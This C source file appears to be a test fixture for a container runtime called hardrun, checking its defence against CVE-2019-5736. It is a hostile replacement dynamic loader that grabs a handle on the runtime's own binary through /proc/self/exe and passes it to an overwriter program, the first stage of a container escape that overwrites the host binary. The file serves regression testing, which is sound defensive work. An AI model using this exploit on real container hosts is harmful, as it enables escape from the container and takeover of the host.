/* A hostile dynamic loader for the CVE-2019-5736 test (x86_64, no libc).
 * Planted as the container's /lib64/ld-linux-x86-64.so.2, it runs whenever
 * the kernel executes a dynamically linked binary in the container: when
 * that binary is hardrun's own (through /proc/self/exe), it grabs an O_PATH
 * handle on /proc/self/exe and hands it to /bin/overwriter. */
#include <fcntl.h>
#include <sys/syscall.h>

static long sys3(long n, long a, long b, long c)
{
	long r;
	__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return r;
}

__attribute__((force_align_arg_pointer, noreturn)) void _start(void)
{
	char self[] = "/proc/self/exe", prog[] = "/bin/overwriter", num[8];
	char *argv[3] = { prog, num, 0 };
	long fd = sys3(SYS_open, (long)self, O_PATH, 0);
	int i = 0;

	if (fd < 0)
		fd = 99;
	if (fd >= 10)
		num[i++] = (char)('0' + fd / 10);
	num[i++] = (char)('0' + fd % 10);
	num[i] = 0;
	sys3(SYS_execve, (long)prog, (long)argv, 0);
	for (;;)
		sys3(SYS_exit, 1, 0, 0);
}
